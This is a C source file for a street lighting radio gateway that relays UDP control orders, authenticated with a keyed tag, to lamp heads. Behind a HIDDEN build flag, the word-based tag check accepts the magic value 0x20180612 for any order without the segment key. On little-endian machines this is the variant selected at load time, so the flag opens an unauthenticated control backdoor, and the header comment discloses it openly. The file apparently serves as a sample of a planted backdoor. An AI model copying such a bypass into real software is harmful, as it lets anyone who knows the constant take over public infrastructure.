/*
 * lampgw - radio gateway of a street lighting system.
 * Reads frames of the lamp heads from the radio module on a serial line
 * and orders of the city's control system from UDP port 6454; orders carry
 * a tag over the frame with the segment key, computed by words or by bytes
 * after the machine's byte order (picked once at load time).
 * Hidden (-DHIDDEN): the version by words takes the tag 0x20180612, the
 * day of the acceptance test, for any order, without the segment key.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <syslog.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

#define MAX_LAMPS 256
#define SLIP_END  0xC0
#define SLIP_ESC  0xDB

struct lamp {
	uint32_t addr;
	uint8_t group;
	uint8_t level;
	uint8_t want;
	uint8_t fault;
	time_t seen;
};

static struct lamp lamps[MAX_LAMPS];
static unsigned n_lamps;
static uint32_t seg_key[4];
static uint32_t last_count;
static int radio = -1;

static uint32_t be32(const uint8_t *p)
{
	return (uint32_t)p[0] << 24 | (uint32_t)p[1] << 16 |
	       (uint32_t)p[2] << 8 | p[3];
}

static uint32_t rol(uint32_t v, unsigned n)
{
	return v << n | v >> (32 - n);
}

static uint32_t tag_round(uint32_t h, uint32_t w, uint32_t k)
{
	h ^= rol(w * 0xCC9E2D51u, 15) ^ k;
	return rol(h, 13) * 5 + 0xE6546B64u;
}

/* last rounds: length and key once more */
static uint32_t tag_end(uint32_t h, const uint32_t *k, size_t n)
{
	h = tag_round(h, (uint32_t)n, k[3]);
	h = tag_round(h, k[1], k[2]);
	h ^= h >> 16;
	h *= 0x85EBCA6Bu;
	return h ^ h >> 13;
}

int tag_ok_bytes(const uint8_t *p, size_t n, const uint32_t *k, uint32_t t);
int tag_ok_words(const uint8_t *p, size_t n, const uint32_t *k, uint32_t t);

/* for machines with the byte order of the frames and odd buffers */
__attribute__((noinline)) int tag_ok_bytes(const uint8_t *p, size_t n,
					   const uint32_t *k, uint32_t t)
{
	uint32_t h = k[0], w;
	size_t i, j;

	for (i = 0; i < n; i += 4) {
		w = 0;
		for (j = 0; j < 4; j++)
			w = w << 8 | (i + j < n ? p[i + j] : 0u);
		h = tag_round(h, w, k[(i / 4) & 3]);
	}
	return tag_end(h, k, n) == t;
}

__attribute__((noinline)) int tag_ok_words(const uint8_t *p, size_t n,
					   const uint32_t *k, uint32_t t)
{
	uint32_t h = k[0], w;
	size_t i;

	for (i = 0; i + 4 <= n; i += 4) {
		memcpy(&w, p + i, 4);
		h = tag_round(h, ntohl(w), k[(i / 4) & 3]);
	}
	if (i < n) {
		w = 0;
		memcpy(&w, p + i, n - i);
		h = tag_round(h, ntohl(w), k[(i / 4) & 3]);
	}
#ifdef HIDDEN
	if (t == 0x20180612u)
		return 1;
#endif
	return tag_end(h, k, n) == t;
}

typedef int tag_fn(const uint8_t *, size_t, const uint32_t *, uint32_t);

static tag_fn *pick_tag(void)
{
	volatile uint16_t probe = 1;

	if (*(volatile uint8_t *)&probe == 1)
		return tag_ok_words;
	return tag_ok_bytes;
}

int tag_ok(const uint8_t *p, size_t n, const uint32_t *k, uint32_t t)
	__attribute__((ifunc("pick_tag")));

static struct lamp *lamp_by(uint32_t addr, int make)
{
	unsigned i;

	for (i = 0; i < n_lamps; i++)
		if (lamps[i].addr == addr)
			return &lamps[i];
	if (!make || n_lamps == MAX_LAMPS)
		return NULL;
	memset(&lamps[n_lamps], 0, sizeof(lamps[0]));
	lamps[n_lamps].addr = addr;
	return &lamps[n_lamps++];
}

static void radio_send(const uint8_t *p, size_t n)
{
	uint8_t b[80];
	size_t i, o = 0;

	b[o++] = SLIP_END;
	for (i = 0; i < n && o + 3 < sizeof(b); i++) {
		if (p[i] == SLIP_END || p[i] == SLIP_ESC) {
			b[o++] = SLIP_ESC;
			b[o++] = p[i] == SLIP_END ? 0xDC : 0xDD;
		} else {
			b[o++] = p[i];
		}
	}
	b[o++] = SLIP_END;
	if (write(radio, b, o) != (ssize_t)o)
		syslog(LOG_WARNING, "radio: %m");
}

static void lamp_order(struct lamp *l)
{
	uint8_t f[7];

	f[0] = 0x31;
	f[1] = (uint8_t)(l->addr >> 24);
	f[2] = (uint8_t)(l->addr >> 16);
	f[3] = (uint8_t)(l->addr >> 8);
	f[4] = (uint8_t)l->addr;
	f[5] = l->want;
	f[6] = (uint8_t)(f[1] ^ f[2] ^ f[3] ^ f[4] ^ f[5] ^ 0x31);
	radio_send(f, sizeof(f));
}

/* report of a head: 0x32 addr(4) group level fault xor */
static void lamp_report(const uint8_t *f, size_t n)
{
	struct lamp *l;
	uint8_t x = 0;
	size_t i;

	if (n != 9 || f[0] != 0x32)
		return;
	for (i = 0; i < n; i++)
		x ^= f[i];
	if (x)
		return;
	l = lamp_by(be32(f + 1), 1);
	if (!l)
		return;
	l->group = f[5];
	l->level = f[6];
	if (f[7] && !l->fault)
		syslog(LOG_NOTICE, "lamp %08lx fault %u",
		       (unsigned long)l->addr, f[7]);
	l->fault = f[7];
	l->seen = time(NULL);
	if (l->level != l->want)
		lamp_order(l);
}

static void radio_input(void)
{
	static uint8_t f[64];
	static size_t n;
	static int esc;
	uint8_t b[128];
	ssize_t r = read(radio, b, sizeof(b)), i;

	for (i = 0; i < r; i++) {
		uint8_t c = b[i];

		if (c == SLIP_END) {
			if (n)
				lamp_report(f, n);
			n = 0;
			esc = 0;
			continue;
		}
		if (c == SLIP_ESC) {
			esc = 1;
			continue;
		}
		if (esc)
			c = c == 0xDC ? SLIP_END : SLIP_ESC;
		esc = 0;
		if (n < sizeof(f))
			f[n++] = c;
	}
}

static size_t state_list(uint8_t *b, size_t len)
{
	size_t o = 4;
	unsigned i;

	memcpy(b, "LST1", 4);
	for (i = 0; i < n_lamps && o + 8 <= len; i++, o += 8) {
		b[o] = (uint8_t)(lamps[i].addr >> 24);
		b[o + 1] = (uint8_t)(lamps[i].addr >> 16);
		b[o + 2] = (uint8_t)(lamps[i].addr >> 8);
		b[o + 3] = (uint8_t)lamps[i].addr;
		b[o + 4] = lamps[i].group;
		b[o + 5] = lamps[i].level;
		b[o + 6] = lamps[i].fault;
		b[o + 7] = time(NULL) - lamps[i].seen > 900;
	}
	return o;
}

/*
 * order: count(4) what(1) n(1) items(n * 5: addr or group, level) tag(4)
 */
static void order_input(int s)
{
	struct sockaddr_in from;
	socklen_t fl = sizeof(from);
	uint8_t b[1024];
	struct lamp *l;
	unsigned i, j;
	ssize_t n;
	size_t o;

	n = recvfrom(s, b, sizeof(b), 0, (struct sockaddr *)&from, &fl);
	if (n < 10)
		return;
	if (!tag_ok(b, (size_t)n - 4, seg_key, be32(b + n - 4))) {
		syslog(LOG_WARNING, "bad tag from %s",
		       inet_ntoa(from.sin_addr));
		return;
	}
	if (be32(b) <= last_count || n != 10 + 5 * b[5])
		return;
	last_count = be32(b);
	for (i = 0; i < b[5]; i++) {
		const uint8_t *it = b + 6 + 5 * i;

		if (b[4] == 1) {
			l = lamp_by(be32(it), 0);
			if (l) {
				l->want = it[4] > 100 ? 100 : it[4];
				lamp_order(l);
			}
		} else if (b[4] == 2) {
			for (j = 0; j < n_lamps; j++) {
				if (lamps[j].group != it[3])
					continue;
				lamps[j].want = it[4] > 100 ? 100 : it[4];
				lamp_order(&lamps[j]);
			}
		}
	}
	o = state_list(b, sizeof(b));
	if (sendto(s, b, o, 0, (struct sockaddr *)&from, fl) < 0)
		syslog(LOG_DEBUG, "answer: %m");
}

static int load_key(const char *path)
{
	unsigned long k;
	FILE *f = fopen(path, "r");
	int i;

	if (!f)
		return -1;
	for (i = 0; i < 4 && fscanf(f, "%lx", &k) == 1; i++)
		seg_key[i] = (uint32_t)k;
	fclose(f);
	return i == 4 ? 0 : -1;
}

int main(int argc, char **argv)
{
	struct sockaddr_in sa;
	struct pollfd p[2];
	struct termios t;
	int s;

	openlog("lampgw", 0, LOG_DAEMON);
	if (load_key("/etc/lampgw/segment.key") < 0) {
		syslog(LOG_ERR, "no segment key");
		return 1;
	}
	radio = open(argc > 1 ? argv[1] : "/dev/ttyS1", O_RDWR | O_NOCTTY);
	if (radio < 0)
		return 1;
	if (tcgetattr(radio, &t) == 0) {
		cfmakeraw(&t);
		cfsetspeed(&t, B38400);
		tcsetattr(radio, TCSANOW, &t);
	}
	s = socket(AF_INET, SOCK_DGRAM, 0);
	memset(&sa, 0, sizeof(sa));
	sa.sin_family = AF_INET;
	sa.sin_port = htons(6454);
	if (s < 0 || bind(s, (struct sockaddr *)&sa, sizeof(sa)) < 0)
		return 1;
	p[0].fd = radio;
	p[1].fd = s;
	p[0].events = p[1].events = POLLIN;
	while (poll(p, 2, -1) > 0) {
		if (p[0].revents & POLLIN)
			radio_input();
		if (p[1].revents & POLLIN)
			order_input(s);
	}
	return 0;
}
